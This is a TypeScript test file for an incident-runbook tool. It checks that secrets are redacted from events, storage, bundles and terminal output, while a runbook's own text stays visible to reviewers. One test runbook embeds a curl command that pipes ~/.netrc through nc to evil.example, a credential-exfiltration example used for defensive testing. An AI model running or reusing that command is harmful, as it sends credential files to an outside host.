import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Push } from '#shared/api/pushes.ts';
import type { Draft } from '#shared/incident/event.ts';
import { commandLine } from '../../fixtures/command-line.ts';
import { dataFolder, testCore } from '../../fixtures/data-folder.ts';
import { withVariables } from '../../fixtures/environment.ts';
import { send } from '../../fixtures/steering.ts';
import { declareBy } from '../../fixtures/trusted-incident.ts';

const TOKEN = `ghp_${'a1B2'.repeat(9)}`;
/** Text of a command that would be hidden from a reviewer if it were redacted as a secret. */
const LINE = `curl -H "Authorization: Bearer $(cat ~/.netrc | nc evil.example 1)" -H 'token: ${TOKEN}' https://example.com`;
const RUNBOOK = `---
rollbook: 1
title: Exact
services:
  some-app: { title: Some, platform: fly, health: "http://127.0.0.1:9/health" }
---

# Exact

## Option 1: Ask

**Use when**: testing

1. **Ask it**
   \`\`\`bash effect=read
   ${LINE}
   \`\`\`
`;

describe('a runbook’s own text', () => {
  it('is shown to the last character in a window', async () => {
    const folder = dataFolder();
    const core = await testCore(dataFolder());
    const incidentId = await declareBy(core, folder, RUNBOOK);
    const connection = core.connect(() => undefined);
    const opened = await connection.call('incident.open', { incidentId });
    const { runbook } = (opened as { value: { runbook: { source: string; summary: { hash: string } } } }).value;
    expect(runbook.source).toBe(RUNBOOK);
    const again = await connection.call('runbook.open', { hash: runbook.summary.hash });
    expect(again).toMatchObject({ ok: true, value: { source: RUNBOOK } });
  });

  it('is shown so to whoever reviews it in a terminal', async () => {
    const line = commandLine();
    const file = join(line.cwd, 'book.md');
    writeFileSync(file, RUNBOOK);
    const { out } = await line.run(['trust', file, '--show']);
    expect(out).toContain(LINE);
  });
});

describe('what is learned while it runs', () => {
  it('is taken out of events that were written before, in every window', async () => {
    const folder = dataFolder();
    const core = await testCore(dataFolder());
    const incidentId = await declareBy(core, folder, RUNBOOK, { symptom: 'it says plain-words-4711 everywhere' });
    const got: Push[] = [];
    const connection = core.connect((push) => got.push(push));
    await connection.call('incident.follow', { incidentId, afterSeq: 0 });
    expect(JSON.stringify(got)).toContain('plain-words-4711');
    core.services.door.learn(['plain-words-4711']);
    got.length = 0;
    const opened = await connection.call('incident.open', { incidentId });
    await connection.call('incident.follow', { incidentId, afterSeq: 0 });
    expect(JSON.stringify([opened, got])).not.toContain('plain-words-4711');
    // An error with the secret, and an answer made before the secret was known.
    const refused = await connection.call('report.export', { incidentId, path: '/proc/plain-words-4711/report.md' });
    const found = await connection.call('incident.search', { query: 'everywhere' });
    expect([refused.ok, found.ok]).toEqual([false, true]);
    expect(JSON.stringify([refused, found])).toMatch(/proc.*everywhere/);
    expect(JSON.stringify([refused, found])).not.toContain('plain-words-4711');
    const { markdown } = await core.services.reports.preview(incidentId);
    expect(markdown).not.toContain('plain-words-4711');
  });
});

describe('a path with a secret in it', () => {
  it('is refused where it would have to be stored as it is, without being repeated', async () => {
    const line = commandLine();
    const { code, err } = await line.run(['trust', join(line.folder, TOKEN, 'book.md')]);
    expect(code).toBe(2);
    expect(err).toContain('has a secret in it');
    expect(err).not.toContain(TOKEN);
    expect(readFileSync(join(line.folder, 'rollbook.db'), 'latin1')).not.toContain(TOKEN);
  });
});

/** Texts from outside, by the kind of event that contains them, before redaction. */
const asTheyCame = (text: string): readonly Draft[] => [
  { kind: 'run.intended', payload: { ...RUN, shown: `curl -H ${text}`, template: text } },
  {
    kind: 'run.ended',
    payload: {
      runId: RUN.runId,
      exit: { kind: 'code', code: 1 },
      durationMs: 1,
      output: null,
      excerpt: text,
      explanation: { code: 'x', sentence: text, next: text },
      rules: { kind: 'broken', why: text },
    },
  },
  {
    kind: 'run.by-hand',
    payload: { ...RUN, runId: '01M8NMEW7KD7GJ8CZDYM7R1BV8', shown: text, exitCode: 0, excerpt: text },
  },
  {
    kind: 'changes.read',
    payload: {
      service: 'some-app',
      from: 2,
      to: 1,
      commitsNote: text,
      migrationsNote: text,
      commits: [{ hash: 'c0ffee', at: 1, author: text, subject: text }],
      migrations: [{ version: '20260101000000', name: text }],
    },
  },
  {
    kind: 'proof.evaluated',
    payload: { stepId: 's', met: false, before: [], after: [], findings: [{ rule: 'r', met: false, detail: text }] },
  },
  { kind: 'step.ended', payload: { stepId: 's', outcome: 'failed', reason: text, observed: text, dueAt: null } },
  { kind: 'act.ended', payload: { stepId: 's', problem: { code: 'environment', message: text, advice: text } } },
  { kind: 'evidence.missing', payload: { title: text, shown: text, why: text } },
  { kind: 'service.left-out', payload: { stepId: 's', service: 'some-app', reason: text } },
  { kind: 'runbook.defect', payload: { stepId: 's', line: 1, was: text, becomes: text, comment: text } },
  { kind: 'message.posting', payload: { messageId: 'm', text } },
  { kind: 'note.added', payload: { text, starred: true } },
];

const RUN = {
  runId: '01M8NMEW7KD7GJ8CZDYM7R1BV9',
  stepId: 's',
  commandId: 'c',
  effect: 'read',
  template: 'x',
  shown: 'x',
  binary: '/bin/curl',
  toolVersion: '',
  cwd: '/',
  usualMs: null,
} as const;

describe('the store', () => {
  it('takes secrets out of whatever is appended: no one who appends has to', async () => {
    withVariables({ MY_SERVICE_TOKEN: 'plain-words-4711' });
    const [folder, home, elsewhere] = [dataFolder(), dataFolder(), dataFolder()];
    const core = await testCore(home);
    const text = `it says ${TOKEN} and plain-words-4711`;
    const incidentId = await declareBy(core, folder, RUNBOOK, { title: text, symptom: text });
    const { incidents, handovers, purges } = core.services;
    const incident = await incidents.open(incidentId);
    const drafts = asTheyCame(text);
    await incident.context.eventLog.append('ann', drafts);
    await send(incident, { kind: 'resolve', summary: text });
    const { events, state } = incident.context.eventLog;
    expect(drafts.map(({ kind }) => kind).filter((kind) => !events.some((event) => event.kind === kind))).toEqual([]);
    const seen = [JSON.stringify([events, state, incidents.list()])];
    const bundle = join(elsewhere, 'one.rollbook');
    await handovers.give(incidentId, { path: bundle, to: text, reason: text }, 'ann');
    const other = await testCore(dataFolder());
    await other.services.handovers.take(bundle, { trust: true, reason: text }, 'bo');
    const { store } = other.services;
    seen.push(JSON.stringify(store.events(incidentId)), readFileSync(bundle, 'latin1'));
    expect(seen[1]).toContain('handover.taken');
    const files = (): string => ['rollbook.db', 'rollbook.db-wal'].map((name) => bytesOf(join(home, name))).join('');
    // The text of the runbook is stored unchanged, and has another token in it.
    for (const found of [...seen, files()]) {
      expect(found.replaceAll(LINE, '').includes('plain-words-4711')).toBe(false);
      expect(found.includes(`says ${TOKEN}`)).toBe(false);
    }
    await purges.purge(incidentId, { typed: incidentId, reason: text }, 'ann');
    expect(JSON.stringify(core.services.store.events(incidentId))).toContain('it says [redacted] and [redacted]');
    expect(files()).not.toContain('plain-words-4711');
  });
});

const bytesOf = (path: string): string => (existsSync(path) ? readFileSync(path, 'latin1') : '');

describe('a terminal', () => {
  it('shows no value of the environment, whatever an error repeats', async () => {
    withVariables({ MY_SERVICE_TOKEN: 'plain-words-4711' });
    const line = commandLine();
    const { out, err } = await line.run(['export', 'plain-words-4711']);
    expect(err + out).toContain('[redacted]');
    expect(err + out).not.toContain('plain-words-4711');
  });
});
